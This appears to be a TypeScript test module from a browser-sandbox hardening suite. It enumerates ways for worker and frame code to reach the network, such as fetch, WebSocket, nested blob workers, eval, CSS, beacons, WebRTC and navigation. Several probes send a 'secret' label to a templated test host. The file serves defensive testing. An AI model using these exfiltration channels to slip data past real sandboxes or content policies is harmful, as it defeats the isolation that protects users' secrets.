// Ways to the network that workers and documents share, each in three realms: the scrubbed worker, a worker that was
// never scrubbed (the policy alone must hold), and the frame's document.

import { type Probe, script } from "../probe";

const ALL = ["worker", "bare", "frame"] as const;
const WORKERS = ["worker", "bare"] as const;

const all = (title: string, code: string): Probe[] => script("network", ALL, title, code);
const workers = (title: string, code: string): Probe[] => script("network", WORKERS, title, code);

const URL_ = '"{{http}}/{{label}}"';
const NESTED = (body: string): string => `const url = URL.createObjectURL(new Blob([${JSON.stringify(body)}]));`;
const WAIT = "await new Promise((done) => setTimeout(done, 250));";

export const NETWORK: Probe[] = [
  ...all("fetch", `await g.fetch(${URL_})`),
  ...all("fetch that needs no permission", `await g.fetch(${URL_}, { mode: "no-cors", method: "POST", body: "x" })`),
  ...all("fetch with the secret in the body", `await g.fetch("{{http}}/post", { method: "POST", body: "{{label}}" })`),
  ...all("fetch that outlives its page", `await g.fetch(${URL_}, { keepalive: true })`),
  ...all("fetch sent on by a redirect", `await g.fetch("{{http}}/?to=" + encodeURIComponent(${URL_}))`),
  ...all("fetch of a host name that is the secret", `await g.fetch("http://{{dns}}:{{port}}/", { mode: "no-cors" })`),
  ...all("a Request object", `await g.fetch(new g.Request(${URL_}, { credentials: "include" }))`),
  ...all("fetchLater", `await g.fetchLater(${URL_}, { activateAfter: 0 }); ${WAIT}`).filter((p) => p.realm === "frame"),
  ...all("XMLHttpRequest", `const x = new g.XMLHttpRequest(); x.open("GET", ${URL_}); x.send(); ${WAIT}`),
  ...all("XMLHttpRequest that blocks", `const x = new g.XMLHttpRequest(); x.open("GET", ${URL_}, false); x.send()`),
  ...all("WebSocket", `new g.WebSocket("{{ws}}/{{label}}"); ${WAIT}`),
  ...all("WebSocketStream", `await new g.WebSocketStream("{{ws}}/{{label}}").opened`),
  ...all("EventSource", `new g.EventSource(${URL_}); ${WAIT}`),
  ...all(
    "WebTransport",
    `const t = new g.WebTransport("https://{{dns}}:{{port}}/{{label}}"); await t.ready.catch(() => {})`,
  ),
  ...all("import() of an address", 'await import("{{http}}/{{label}}.js")'),
  ...all(
    "import() of a data: module that imports",
    `await import("data:text/javascript," + encodeURIComponent('import "{{http}}/{{label}}.js"'))`,
  ),
  ...all(
    "import() of a blob: module that fetches",
    `${NESTED(`await fetch(${URL_})`)}
    await import(URL.createObjectURL(new Blob([${JSON.stringify(`await fetch(${URL_})`)}], { type: "text/javascript" })))`,
  ),
  ...workers("importScripts of an address", 'g.importScripts("{{http}}/{{label}}.js")'),
  ...workers("importScripts of a blob: that fetches", `${NESTED(`fetch(${URL_})`)} g.importScripts(url); ${WAIT}`),
  ...workers(
    "importScripts of a data: that fetches",
    `g.importScripts("data:text/javascript,fetch(" + encodeURIComponent('${URL_}') + ")"); ${WAIT}`,
  ),
  ...all("a nested worker that fetches", `${NESTED(`fetch(${URL_})`)} new g.Worker(url); ${WAIT}`),
  ...all(
    "a nested worker that opens a WebSocket",
    `${NESTED('new WebSocket("{{ws}}/{{label}}")')} new g.Worker(url); ${WAIT}`,
  ),
  ...all(
    "a worker in a nested worker that fetches",
    `${NESTED(`new Worker(URL.createObjectURL(new Blob(['fetch(${URL_})'])))`)} new g.Worker(url); ${WAIT}`,
  ),
  ...all(
    "a nested worker of a data: address",
    `new g.Worker("data:text/javascript," + encodeURIComponent('fetch(${URL_})')); ${WAIT}`,
  ),
  ...all(
    "a nested module worker",
    `${NESTED(`await fetch(${URL_})`)} new g.Worker(URL.createObjectURL(new Blob([${JSON.stringify(`await fetch(${URL_})`)}], { type: "text/javascript" })), { type: "module" }); ${WAIT}`,
  ),
  ...all("a nested worker of an address", `new g.Worker("{{http}}/{{label}}.js"); ${WAIT}`),
  ...all("a font", `await new g.FontFace("f", "url({{http}}/{{label}}.woff)").load()`),
  ...all("WebAssembly streamed from an address", `await g.WebAssembly.compileStreaming(g.fetch(${URL_}))`),
  ...all("a cache that is told to fill itself", `await (await g.caches.open("c")).add(${URL_})`),
  ...all("a string timer that fetches", `g.setTimeout('fetch(${URL_})', 0); ${WAIT}`),
  ...all("eval that fetches", `await g.eval('fetch(${URL_})')`),
  ...all("Function that fetches", `await (async () => {}).constructor('await fetch(${URL_})')()`),
];

/** Ways that need a document: only the frame has one, and no user code runs there. */
const doc = (title: string, code: string, rest = {}): Probe[] =>
  script(
    "network",
    ["frame"],
    title,
    `const d = g.document; const add = (name, more) => { const e = Object.assign(d.createElement(name), more); (d.body ?? d.documentElement).append(e); return e }; ${code}; ${WAIT}`,
    rest,
  );

export const DOCUMENT: Probe[] = [
  ...doc("sendBeacon", `g.navigator.sendBeacon(${URL_}, "x")`),
  ...doc("an image", `new g.Image().src = ${URL_}`),
  ...doc("an image in the document", `add("img", { src: ${URL_} })`),
  ...doc("an image's srcset", `add("img", { srcset: "{{http}}/{{label}} 2x" })`),
  ...doc("a script element", `add("script", { src: "{{http}}/{{label}}.js" })`),
  ...doc("an inline script", `add("script", { textContent: 'fetch(${URL_})' })`),
  ...doc("an inline handler", `add("div", {}).setAttribute("onclick", 'fetch(${URL_})'); d.body.lastChild.click()`),
  ...doc("a style sheet", `add("link", { rel: "stylesheet", href: "{{http}}/{{label}}.css" })`),
  ...doc("CSS @import", `add("style", { textContent: '@import "{{http}}/{{label}}.css";' })`),
  ...doc("CSS url()", `add("div", { textContent: "x" }).style.backgroundImage = "url({{http}}/{{label}})"`),
  ...doc(
    "CSS @font-face",
    `add("style", { textContent: '@font-face{font-family:q;src:url({{http}}/{{label}}.woff)}' }); add("p", { textContent: "x" }).style.fontFamily = "q"`,
  ),
  ...doc("link preload", `add("link", { rel: "preload", as: "image", href: ${URL_} })`),
  ...doc("link prefetch", `add("link", { rel: "prefetch", href: ${URL_} })`),
  ...doc("link modulepreload", `add("link", { rel: "modulepreload", href: "{{http}}/{{label}}.js" })`),
  ...doc("link icon", `d.head.append(Object.assign(d.createElement("link"), { rel: "icon", href: ${URL_} }))`, {
    // Headless Chromium fetches no icons; a style sheet shows that the link element itself is alive.
    control: `const d = g.document; const l = d.createElement("link"); l.rel = "stylesheet"; l.href = "{{http}}/{{label}}.css"; d.head.append(l); ${WAIT}`,
  }),
  ...doc("link dns-prefetch", `add("link", { rel: "dns-prefetch", href: "http://{{dns}}:{{port}}/" })`),
  ...doc("link preconnect", `add("link", { rel: "preconnect", href: "http://{{dns}}:{{port}}/" })`),
  ...doc("a video", `add("video", { src: ${URL_}, preload: "auto" })`),
  ...doc("an audio element", `add("audio", { src: ${URL_}, preload: "auto" })`),
  ...doc("an object element", `add("object", { data: ${URL_} })`),
  ...doc("an embed element", `add("embed", { src: ${URL_} })`),
  ...doc(
    "an SVG image",
    `d.body.append(new g.DOMParser().parseFromString('<svg xmlns="http://www.w3.org/2000/svg"><image href=${URL_}/></svg>', "image/svg+xml").documentElement)`,
  ),
  ...doc("an image button", `add("input", { type: "image", src: ${URL_} })`),
  ...doc("a nested frame", `add("iframe", { src: ${URL_} })`),
  ...doc("a nested frame's own document with an image", `add("iframe", { srcdoc: '<img src=${URL_}>' })`),
  ...doc("a nested frame's own document with a script", `add("iframe", { srcdoc: '<script>fetch(${URL_})</script>' })`),
  ...doc(
    "a nested blob: document with a script",
    `add("iframe", { src: URL.createObjectURL(new Blob(['<script>fetch(${URL_})</script>'], { type: "text/html" })) })`,
  ),
  ...doc("a nested about:blank's own fetch", `await add("iframe", {}).contentWindow.fetch(${URL_})`),
  ...doc("a nested about:blank's own WebSocket", `new (add("iframe", {}).contentWindow.WebSocket)("{{ws}}/{{label}}")`),
  ...doc(
    "a form",
    `const f = add("form", { action: ${URL_}, method: "post", target: "form-target" }); add("iframe", { name: "form-target" }); f.submit()`,
  ),
  ...doc("a ping", `const a = add("a", { href: "#x" }); a.ping = ${URL_}; a.click()`),
  ...doc("a download", `add("a", { href: ${URL_}, download: "x" }).click()`),
  ...doc("a service worker", `await g.navigator.serviceWorker.register("{{http}}/{{label}}.js")`),
  ...doc("a shared worker", `new g.SharedWorker("{{http}}/{{label}}.js")`),
  ...doc("a paint worklet", `await g.CSS.paintWorklet.addModule("{{http}}/{{label}}.js")`),
  ...doc(
    "an audio worklet",
    `await new g.OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("{{http}}/{{label}}.js")`,
  ),
  // No policy that an engine honours stops WebRTC to a peer: the frame gives it up itself, so this asks for what is there
  // after the frame's own script and not for what was there before.
  ...doc(
    "WebRTC to a peer that was told the secret",
    `const p = new globalThis.RTCPeerConnection(); p.createDataChannel("x"); const o = await p.createOffer(); await p.setLocalDescription(o); const mine = o.sdp.match(/a=ice-ufrag:(\\S+)/)[1];
    const sdp = o.sdp.replace(/a=ice-ufrag:.*/, "a=ice-ufrag:{{label}}").replace(/a=setup:.*/, "a=setup:active") + "a=candidate:1 1 udp 2122260223 127.0.0.1 {{udp}} typ host\\r\\n";
    await p.setRemoteDescription({ type: "answer", sdp }); await new Promise((done) => setTimeout(done, 900)); void mine`,
  ),
  ...doc(
    "WebRTC of a nested about:blank",
    `const p = new globalThis.RTCPeerConnection(); p.createDataChannel("x"); const o = await p.createOffer(); await p.setLocalDescription(o); const mine = o.sdp.match(/a=ice-ufrag:(\\S+)/)[1];
    const sdp = o.sdp.replace(/a=ice-ufrag:.*/, "a=ice-ufrag:{{label}}").replace(/a=setup:.*/, "a=setup:active") + "a=candidate:1 1 udp 2122260223 127.0.0.1 {{udp}} typ host\\r\\n";
    await p.setRemoteDescription({ type: "answer", sdp }); await new Promise((done) => setTimeout(done, 900)); void mine`,
  ),
  ...doc("the document's own navigation", `g.location.href = ${URL_}`, { spoils: true }),
  ...doc(
    "meta refresh",
    `d.head.append(Object.assign(d.createElement("meta"), { httpEquiv: "refresh", content: "0;url={{http}}/{{label}}" }))`,
    { spoils: true },
  ),
  ...doc("a link that leaves the document", `add("a", { href: ${URL_} }).click()`, { spoils: true }),
  ...doc("the top page's navigation", `g.top.location.href = ${URL_}`, { spoils: true }),
  ...doc("the parent's navigation", `g.parent.location.replace(${URL_})`, { spoils: true }),
  ...doc("a new window", `g.open(${URL_})`),
  ...doc("a link into a new window", `add("a", { href: ${URL_}, target: "_blank" }).click()`),
  ...doc("a link into the top page", `add("a", { href: ${URL_}, target: "_top" }).click()`, { spoils: true }),
  ...doc(
    "a base address for relative ones",
    `d.head.append(Object.assign(d.createElement("base"), { href: "{{http}}/" })); add("img", { src: "{{label}}" })`,
    { spoils: true },
  ),
];
